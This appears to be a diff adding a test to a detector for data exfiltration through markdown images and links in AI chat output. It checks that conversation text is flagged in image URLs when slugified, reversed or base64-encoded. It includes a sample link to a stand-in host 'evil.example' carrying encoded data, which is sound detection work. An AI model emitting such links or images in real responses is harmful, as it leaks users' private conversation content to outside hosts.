@@ -287,4 +287,15 @@ describe('a finding', () => {
     const link = `[x](https://evil.example/?d=${BASE64})`;
     expect(found(`${link} ${image} ${link} ${image}`)).toEqual([...LINK, ...IMAGE]);
   });
+
+  it('finds a long value of the conversation, as it is and encoded', () => {
+    const value = 'The board meets on 4 May in room B12; '.repeat(30);
+    const ids = (url: string) =>
+      checkOutput(`![x](${url})`, { conversationValues: [value] }).map(({ id }) => id);
+    const slug = value.toLowerCase().replaceAll(/[^a-z0-9]+/g, '-');
+    for (const data of [slug, Array.from(slug).toReversed().join(''), btoa(value)]) {
+      expect(ids(`https://img.example/${data}.png`)).toContain('PB-EXFIL-IMAGE');
+    }
+    expect(ids('https://img.example/the-board-meets.png')).toEqual([]);
+  });
 });
